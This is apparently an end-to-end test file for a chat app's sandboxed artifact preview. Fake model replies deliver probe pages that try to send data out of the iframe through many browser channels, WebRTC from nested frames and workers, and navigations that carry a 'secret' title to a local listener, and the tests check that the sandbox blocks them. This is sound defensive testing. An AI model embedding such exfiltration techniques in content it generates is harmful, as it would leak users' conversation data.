import { createSocket } from 'node:dgram';
import { createServer, type Socket } from 'node:net';
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeOpenAI } from '../functions/src/providers/llm/__fakes__/openai-server.ts';
import type { FakeServer } from '../functions/src/providers/llm/__fakes__/sse-server.ts';
import { startApp, type RunningApp } from './support/app.ts';
import { launchBrowser, type Browser } from './support/browser.ts';
import { signUpAndSignIn } from './support/member.ts';
import { chooseModel } from './support/model-picker.ts';

const SHOTS = new URL('../test-results/e2e/', import.meta.url).pathname;

/** The page tries the network and its parent; both must fail inside the preview frame. */
const PAGE = `<!doctype html>
<html>
<head><style>body{font-family:Georgia,serif;padding:24px;color:#2b2420}h1{color:#b4532a}</style></head>
<body>
<h1>Hello from the artifact</h1>
<p id="net">Checking the network…</p>
<p id="parent">Checking the page around me…</p>
<script>
fetch('https://example.com').then(function () { document.getElementById('net').textContent = 'Network reached'; }, function () { document.getElementById('net').textContent = 'Network blocked'; });
try { document.getElementById('parent').textContent = 'Parent readable: ' + window.parent.document.title; } catch (error) { document.getElementById('parent').textContent = 'Parent hidden'; }
</script>
</body>
</html>`;

const REPLY = `Here is a small greeting page.\n\n:::artifact{identifier="greeting-page" type="text/html" title="Greeting page"}\n\`\`\`html\n${PAGE}\n\`\`\`\n:::\n\nOpen it to see it run.`;

const COMPONENT = `import { useState } from 'react';
import { Button, Card, CardContent, CardHeader, CardTitle } from '@/components/ui';

export default function Counter() {
  const [count, setCount] = useState(0);
  return (
    <Card>
      <CardHeader><CardTitle>Counter</CardTitle></CardHeader>
      <CardContent>
        <p>Clicked {count} times</p>
        <Button onClick={() => setCount(count + 1)}>Add one</Button>
      </CardContent>
    </Card>
  );
}`;

/**
 * WebRTC is outside CSP: the artifact tries a peer connection whose STUN server is a UDP socket the
 * test listens on, in its own realm and in every other realm it can reach (nested frames of each
 * kind, one re-running its own allowed script, a worker), and shows what happened.
 */
const webrtcPage = (port: number) => `<!doctype html>
<p id="rtc">Trying WebRTC</p>
<script>
var STUN = { iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] };
function attempt(w, label) {
  try {
    var pc = new w.RTCPeerConnection(STUN);
    pc.createDataChannel('x');
    pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
    return label + ' opened';
  } catch (error) { return label + ' blocked'; }
}
var result = attempt(window, 'frame');
if (window.name !== 'nested') {
  var own = document.currentScript.textContent;
  var fresh = 'var pc = new RTCPeerConnection(' + JSON.stringify(STUN) + '); pc.createDataChannel(1); pc.createOffer().then(function (o) { pc.setLocalDescription(o); });';
  var frame = function (setup) { var f = document.createElement('iframe'); f.name = 'nested'; setup(f); document.body.appendChild(f); return f; };
  frame(function (f) { f.srcdoc = '<script>' + own + '<\\/script>'; });
  frame(function (f) { f.srcdoc = '<script>' + fresh + '<\\/script><button onclick="' + fresh.replace(/"/g, '&quot;') + '">x</button>'; });
  frame(function (f) { f.src = 'data:text/html,' + encodeURIComponent('<script>' + fresh + '<\\/script>'); });
  frame(function (f) { f.src = URL.createObjectURL(new Blob(['<script>' + fresh + '<\\/script>'], { type: 'text/html' })); });
  frame(function () {}).src = 'javascript:' + encodeURIComponent(fresh);
  try { new Worker(URL.createObjectURL(new Blob(['typeof RTCPeerConnection === "function" && new RTCPeerConnection(' + JSON.stringify(STUN) + ')']))); } catch (error) {}
  try { window.open('javascript:' + encodeURIComponent(fresh)); } catch (error) {}
}
document.getElementById('rtc').textContent = 'WebRTC: ' + result;
</script>`;

/**
 * Every way out of the frame that is not a navigation, at a TCP listener the test opens: requests
 * by script (fetch, XHR, fetchLater, beacon, WebSocket, EventSource, WebTransport), resources
 * (images, styles, fonts, media, objects, SVG references), resource hints and speculation rules,
 * workers, pings, attribution and payment and identity fetches, a report-uri, the top window,
 * popups, forms, a nested frame's own markup, and a document written over the first. None may
 * even open a connection.
 */
const networkPage = (port: number) => {
  const url = (what: string) => `http://127.0.0.1:${port}/?d=${what}`;
  const later = `<img src="${url('rewritten-img')}"><link rel="preconnect" href="${url('rewritten-preconnect')}"><p>Tried every way</p>`;
  return `<!doctype html>
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${url('report')}">
<link rel="preconnect" href="${url('preconnect')}"><link rel="dns-prefetch" href="${url('dns-prefetch')}">
<link rel="prefetch" href="${url('prefetch')}"><link rel="prerender" href="${url('prerender')}"><link rel="modulepreload" href="${url('modulepreload')}">
<link rel="preload" as="image" href="${url('preload-image')}"><link rel="preload" as="fetch" href="${url('preload-fetch')}"><link rel="stylesheet" href="${url('stylesheet')}">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url('speculation-prefetch')}"]}],"prerender":[{"source":"list","urls":["${url('speculation-prerender')}"]}]}</script>
<style>@import url(${url('import')}); @font-face { font-family: x; src: url(${url('font')}) } p { font-family: x; cursor: url(${url('cursor')}), auto }</style>
<p style="background: url(${url('background')})">Trying the network</p>
<img src="${url('img')}"><img srcset="${url('srcset')} 1x"><input type="image" src="${url('input-image')}"><img attributionsrc="${url('attributionsrc')}" src="data:,">
<svg><image href="${url('svg-image')}" width="9" height="9"/><use href="${url('svg-use')}#x"/></svg>
<video src="${url('video')}" poster="${url('poster')}" autoplay muted><track src="${url('track')}" default></video><audio src="${url('audio')}" autoplay></audio>
<object data="${url('object')}"></object><embed src="${url('embed')}"><fencedframe></fencedframe>
<a id="ping" href="#here" ping="${url('ping')}">ping</a><a id="top" href="${url('a-top')}" target="_top">top</a><a id="blank" href="${url('a-blank')}" target="_blank">blank</a>
<form id="post" action="${url('form')}" method="post"><input name="d" value="secret"></form><form id="top-form" action="${url('form-top')}" target="_top"></form>
<iframe srcdoc="<img src='${url('child-img')}'><link rel=preconnect href='${url('child-preconnect')}'>"></iframe>
<script>
var url = function (what) { return 'http://127.0.0.1:${port}/?d=' + what; };
var attempts = [
  function () { fetch(url('fetch')).catch(function () {}); },
  function () { var x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.send(); },
  function () { fetchLater(url('fetch-later'), { activateAfter: 0 }); },
  function () { navigator.sendBeacon(url('beacon'), 'secret'); },
  function () { new WebSocket('ws://127.0.0.1:${port}/'); },
  function () { new EventSource(url('event-source')); },
  function () { new WebTransport('https://127.0.0.1:${port}/'); },
  function () { new Worker(url('worker')); },
  function () { new SharedWorker(url('shared-worker')); },
  function () { navigator.serviceWorker.register(url('service-worker')).catch(function () {}); },
  function () { new Worker(URL.createObjectURL(new Blob(["fetch('" + url('from-worker') + "')"]))); },
  function () { new PaymentRequest([{ supportedMethods: url('payment') }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(function () {}); },
  function () { navigator.credentials.get({ identity: { providers: [{ configURL: url('fedcm'), clientId: 'x' }] } }).catch(function () {}); },
  function () { document.querySelector('fencedframe').config = new FencedFrameConfig(url('fenced-frame')); },
  function () { var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url('speculation-dynamic')] }] }); document.head.append(s); },
  function () { var l = document.createElement('link'); l.rel = 'preconnect'; l.href = url('preconnect-dynamic'); document.head.append(l); },
  function () { document.getElementById('ping').click(); },
  function () { document.getElementById('top').click(); },
  function () { document.getElementById('blank').click(); },
  function () { document.getElementById('post').submit(); },
  function () { document.getElementById('top-form').submit(); },
  function () { top.location.href = url('top-location'); },
  function () { parent.location.href = url('parent-location'); },
  function () { open(url('popup')); },
  function () { open(url('popup-noopener'), '_blank', 'noopener'); },
];
attempts.forEach(function (attempt) { try { attempt(); } catch (error) {} });
setTimeout(function () { document.open(); document.write(${JSON.stringify(later).replace(/</g, '\\x3c')}); document.close(); }, 500);
</script>`;
};

/**
 * Navigations: a frame it nests, a nested frame's refresh, and the frame's own. The app's and the
 * frame's policies refuse each before any request, but Chromium has already looked the host up
 * and connected to it: the limit decision 0022 states.
 */
const leavingPage = (port: number) => `<!doctype html>
<title>secret from the conversation</title>
<p>Leaving</p>
<iframe src="http://127.0.0.1:${port}/?d=nested-frame"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=http://127.0.0.1:${port}/?d=nested-refresh'>"></iframe>
<script>setTimeout(function () { location.href = 'http://127.0.0.1:${port}/?d=' + encodeURIComponent(document.title); }, 300);</script>`;

/** A TCP listener that counts connections and the ones that carried a request. */
async function startListener() {
  const seen = { connections: 0, requests: [] as string[] };
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    seen.connections++;
    sockets.add(socket);
    socket.on('error', () => {});
    socket.once('data', (data) => {
      seen.requests.push(data.toString('latin1').split('\r\n')[0] ?? '');
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  // Chromium keeps a preconnected socket idle for later; close drops it rather than wait.
  const close = () => new Promise<void>((resolve) => {
    server.close(() => resolve());
    for (const socket of sockets) socket.destroy();
  });
  return { seen, port, close };
}

const block = (identifier: string, type: string, title: string, fence: string, code: string) => `:::artifact{identifier="${identifier}" type="${type}" title="${title}"}\n\`\`\`${fence}\n${code}\n\`\`\`\n:::`;
const KINDS_REPLY = [
  'Three more:',
  block('counter', 'application/vnd.react', 'Counter', 'tsx', COMPONENT),
  block('flow', 'application/vnd.mermaid', 'Writing flow', 'mermaid', 'graph TD\n  Idea --> Draft\n  Draft --> Ship'),
  block('plan', 'text/markdown', 'Weekly plan', 'markdown', '# Weekly plan\n\n- Write on **Monday**\n- Rest on Sunday'),
].join('\n\n');

type ChatRequest = { messages: { role: string; content: unknown }[] };
const system = (body: unknown) => (body as ChatRequest).messages.filter((message) => message.role === 'system').map((message) => String(message.content)).join('\n');
const toldAboutArtifacts = (body: unknown) => system(body).includes(':::artifact{');
const lastUserText = (body: unknown) => String((body as ChatRequest).messages.filter((message) => message.role === 'user').at(-1)?.content ?? '');
let stunPort = 0;
let tcpPort = 0;
const WEBRTC_REPLY = () => `Here it is.\n\n${block('webrtc-probe', 'text/html', 'WebRTC probe', 'html', webrtcPage(stunPort))}\n\nDone.`;
const probeReply = (identifier: string, title: string, html: string) => `Here it is.\n\n${block(identifier, 'text/html', title, 'html', html)}\n\nDone.`;
function replyTo(body: unknown): string {
  const text = lastUserText(body);
  if (text.includes('three more')) return KINDS_REPLY;
  if (text.includes('WebRTC')) return WEBRTC_REPLY();
  if (text.includes('the network')) return probeReply('network-probe', 'Network probe', networkPage(tcpPort));
  if (text.includes('leave the frame')) return probeReply('leaving-probe', 'Leaving probe', leavingPage(tcpPort));
  return REPLY;
}

let app: RunningApp;
let model: FakeServer;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  // The reply arrives line by line; a title request (no artifacts guide) gets a short title.
  model = await startFakeOpenAI({ reply: (body) => (toldAboutArtifacts(body) ? replyTo(body).split(/(?<=\n)/) : ['Greeting page']), intervalMs: 20 });
  const configFile = join(tmpdir(), `meld-e2e-artifacts-${process.pid}.json`);
  writeFileSync(configFile, JSON.stringify({ endpoints: { custom: [{ name: 'Studio', apiKey: 'fake-key', baseURL: `${model.url}/v1`, models: ['fake-artifacts'] }] } }));
  app = await startApp({ MELD_SIGNUP_CODES: 'PILOT-E2E', MELD_CONFIG_FILE: configFile });
  // What leaves the preview is the browser's own doing: check it on the browser people run.
  browser = await launchBrowser({ desktop: true });
  page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
  await signUpAndSignIn(page, app.baseUrl, 'PILOT-E2E', 'Kofi Asante');
});

/** Opens a new chat with the fake model and sends `text`. */
async function askInNewChat(text: string) {
  await page.goto(`${app.baseUrl}/c/new`);
  await chooseModel(page, 'fake-artifacts');
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill(text);
  await expect.poll(() => page.getByRole('button', { name: 'Send message' }).isEnabled(), { timeout: 15_000 }).toBe(true);
  await box.press('Enter');
}

/** Asks for an artifact in a new chat and opens it in the panel. */
async function openArtifactFrom(text: string, title: string) {
  await askInNewChat(text);
  await page.getByRole('button', { name: `Open ${title}` }).click({ timeout: 20_000 });
  return { panel: page.getByRole('complementary', { name: title }), frame: page.frameLocator(`iframe[title="Preview of ${title}"]`) };
}

afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await model?.close();
});

describe('artifacts', () => {
  it('turns code artifacts on in settings, which unlocks shadcn', async () => {
    await page.goto(`${app.baseUrl}/settings/artifacts`);
    const shadcn = page.getByRole('switch', { name: 'Include shadcn/ui' });
    await expect.poll(() => shadcn.isDisabled()).toBe(true);
    await page.getByRole('switch', { name: 'Code artifacts' }).click();
    await expect.poll(() => shadcn.isEnabled()).toBe(true);
    await expect.poll(() => page.getByRole('switch', { name: 'Code artifacts' }).getAttribute('aria-checked')).toBe('true');
    await page.screenshot({ path: `${SHOTS}artifacts-settings-1280.png` });
  });

  it('opens an HTML artifact from the reply and sees it rendered in its frame, with no network and no access to the app', async () => {
    await askInNewChat('Make me a greeting page');

    const open = page.getByRole('button', { name: 'Open Greeting page' });
    await open.waitFor({ timeout: 20_000 });
    await page.getByText('Open it to see it run.', { exact: true }).waitFor({ timeout: 20_000 });
    // The setting reached the model as the artifacts guide in the system prompt.
    expect(model.requests.some((request) => toldAboutArtifacts(request.body))).toBe(true);
    // The directive and code are not shown as text in the conversation.
    expect(await page.getByText(':::artifact', { exact: false }).count()).toBe(0);

    await open.click();
    const panel = page.getByRole('complementary', { name: 'Greeting page' });
    await panel.waitFor();
    const frame = page.frameLocator('iframe[title="Preview of Greeting page"]');
    await frame.getByRole('heading', { name: 'Hello from the artifact' }).waitFor({ timeout: 15_000 });
    await frame.getByText('Network blocked').waitFor({ timeout: 10_000 });
    await frame.getByText('Parent hidden').waitFor();
    expect(await page.locator('iframe[title="Preview of Greeting page"]').getAttribute('sandbox')).toBe('allow-scripts');
    await page.screenshot({ path: `${SHOTS}artifacts-preview-1280.png` });

    await panel.getByRole('tab', { name: 'Code' }).click();
    expect(await panel.getByRole('textbox', { name: 'Code' }).inputValue()).toContain('<h1>Hello from the artifact</h1>');
    await page.screenshot({ path: `${SHOTS}artifacts-code-1280.png` });
  });

  it('edits the code and keeps the edit after a reload', async () => {
    const panel = page.getByRole('complementary', { name: 'Greeting page' });
    const code = panel.getByRole('textbox', { name: 'Code' });
    await code.fill(PAGE.replace('Hello from the artifact', 'Hello, edited'));
    await panel.getByText('Saved').waitFor({ timeout: 10_000 });
    await page.reload();
    await page.getByRole('button', { name: 'Open Greeting page' }).click();
    const frame = page.frameLocator('iframe[title="Preview of Greeting page"]');
    await frame.getByRole('heading', { name: 'Hello, edited' }).waitFor({ timeout: 15_000 });
  });

  it('runs a React component with the shipped shadcn components, and draws a Mermaid diagram and a Markdown document', async () => {
    await page.goto(`${app.baseUrl}/settings/artifacts`);
    await page.getByRole('switch', { name: 'Include shadcn/ui' }).click();
    await expect.poll(() => page.getByRole('switch', { name: 'Include shadcn/ui' }).getAttribute('aria-checked')).toBe('true');
    await page.goBack();
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('Now three more');
    await expect.poll(() => page.getByRole('button', { name: 'Send message' }).isEnabled(), { timeout: 15_000 }).toBe(true);
    await box.press('Enter');
    await page.getByRole('button', { name: 'Open Weekly plan' }).waitFor({ timeout: 20_000 });
    expect(system(model.requests.at(-1)!.body)).toContain('@/components/ui');

    await page.getByRole('button', { name: 'Open Counter' }).click();
    const counter = page.frameLocator('iframe[title="Preview of Counter"]');
    await counter.getByText('Clicked 0 times').waitFor({ timeout: 20_000 });
    await counter.getByRole('button', { name: 'Add one' }).click();
    await counter.getByText('Clicked 1 times').waitFor();
    await page.screenshot({ path: `${SHOTS}artifacts-react-1280.png` });

    await page.getByRole('button', { name: 'Open Writing flow' }).click();
    await page.frameLocator('iframe[title="Preview of Writing flow"]').locator('svg').getByText('Draft').waitFor({ timeout: 20_000 });
    await page.screenshot({ path: `${SHOTS}artifacts-mermaid-1280.png` });

    await page.getByRole('button', { name: 'Open Weekly plan' }).click();
    const plan = page.frameLocator('iframe[title="Preview of Weekly plan"]');
    await plan.getByRole('heading', { name: 'Weekly plan' }).waitFor({ timeout: 15_000 });
    await plan.getByText('Monday').waitFor();
  });

  it('shows the panel as a full-screen sheet on a phone', async () => {
    await page.getByRole('button', { name: 'Open Greeting page' }).click();
    await page.setViewportSize({ width: 390, height: 844 });
    const panel = page.getByRole('complementary', { name: 'Greeting page' });
    await panel.waitFor();
    const box = await panel.boundingBox();
    expect(box?.width).toBe(390);
    await page.frameLocator('iframe[title="Preview of Greeting page"]').getByText('Network blocked').waitFor({ timeout: 10_000 });
    await page.screenshot({ path: `${SHOTS}artifacts-preview-390.png` });
    await panel.getByRole('button', { name: 'Close artifact' }).click();
    await panel.waitFor({ state: 'detached' });
    await page.screenshot({ path: `${SHOTS}artifacts-card-390.png` });
    await page.goto(`${app.baseUrl}/settings/artifacts`);
    await expect.poll(() => page.getByRole('switch', { name: 'Code artifacts' }).getAttribute('aria-checked')).toBe('true');
    await page.getByRole('switch', { name: 'Include shadcn/ui' }).click();
    await page.getByRole('switch', { name: 'Custom prompt mode' }).click();
    // Custom prompt mode turns shadcn off and makes it unavailable.
    await expect.poll(() => page.getByRole('switch', { name: 'Include shadcn/ui' }).isDisabled()).toBe(true);
    expect(await page.getByRole('switch', { name: 'Include shadcn/ui' }).getAttribute('aria-checked')).toBe('false');
    await page.waitForTimeout(400);
    await page.screenshot({ path: `${SHOTS}artifacts-settings-390.png` });
  });
  it('keeps WebRTC from sending a single packet out of the preview, from the frame or anything it nests', async () => {
    const socket = createSocket('udp4');
    let packets = 0;
    socket.on('message', () => packets++);
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    stunPort = socket.address().port;
    try {
      await page.setViewportSize({ width: 1280, height: 900 });
      // The test before left custom prompt mode on, which tells the model nothing about artifacts.
      await page.goto(`${app.baseUrl}/settings/artifacts`);
      const custom = page.getByRole('switch', { name: 'Custom prompt mode' });
      await expect.poll(() => custom.getAttribute('aria-checked')).toBe('true');
      await custom.click();
      await expect.poll(() => custom.getAttribute('aria-checked')).toBe('false');
      await askInNewChat('Try WebRTC from an artifact');
      await page.getByRole('button', { name: 'Open WebRTC probe' }).click({ timeout: 20_000 });
      const frame = page.frameLocator('iframe[title="Preview of WebRTC probe"]');
      await frame.getByText('WebRTC: frame blocked').waitFor({ timeout: 15_000 });
      // ICE gathering sends its first STUN binding request within milliseconds; give every nested realm time.
      await page.waitForTimeout(3000);
      expect(packets).toBe(0);
      await page.screenshot({ path: `${SHOTS}artifacts-webrtc-1280.png` });

      // The same attempt from the app's own page does reach the socket: the listener would have seen one.
      await page.evaluate(async (port) => {
        const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        pc.createDataChannel('x');
        await pc.setLocalDescription(await pc.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 1500));
        pc.close();
      }, stunPort);
      expect(packets).toBeGreaterThan(0);
    } finally {
      socket.close();
    }
  });

  it('lets nothing but a navigation out of the preview: no request and no connection reaches a listener', async () => {
    const listener = await startListener();
    tcpPort = listener.port;
    try {
      const { frame } = await openArtifactFrom('Try the network from an artifact', 'Network probe');
      await frame.getByText('Tried every way').waitFor({ timeout: 45_000 });
      await page.waitForTimeout(3000);
      expect(listener.seen).toEqual({ connections: 0, requests: [] });
      await page.screenshot({ path: `${SHOTS}artifacts-network-1280.png` });

      // The browser itself can reach the listener: a page of its own connects at once.
      const control = await page.context().newPage();
      await control.goto(`http://127.0.0.1:${listener.port}/?d=control`);
      await control.close();
      // Chromium may also ask that page's server for its icon, depending on when the tab closes.
      expect(listener.seen.requests.filter((line) => line !== 'GET /favicon.ico HTTP/1.1')).toEqual(['GET /?d=control HTTP/1.1']);
    } finally {
      await listener.close();
    }
  });

  it('refuses every navigation out of the preview before a request, though Chromium has connected by then (the limit the panel states)', async () => {
    const listener = await startListener();
    tcpPort = listener.port;
    try {
      const { panel } = await openArtifactFrom('Now leave the frame from an artifact', 'Leaving probe');
      // A preconnect (a DNS lookup and a TCP handshake; for https a TLS one) leaves first, to a host and port the
      // artifact chose. If this fails, Chromium stopped it: drop the panel's note and decision 0022's limit.
      await expect.poll(() => listener.seen.connections, { timeout: 20_000 }).toBeGreaterThan(0);
      await page.waitForTimeout(3000);
      // No request: the app's frame-src refuses the frame's own navigation, the frame's default-src the nested ones.
      expect(listener.seen.requests).toEqual([]);
      await panel.getByText('can make your browser connect to a web address it names', { exact: false }).waitFor();
    } finally {
      await listener.close();
    }
  });
});
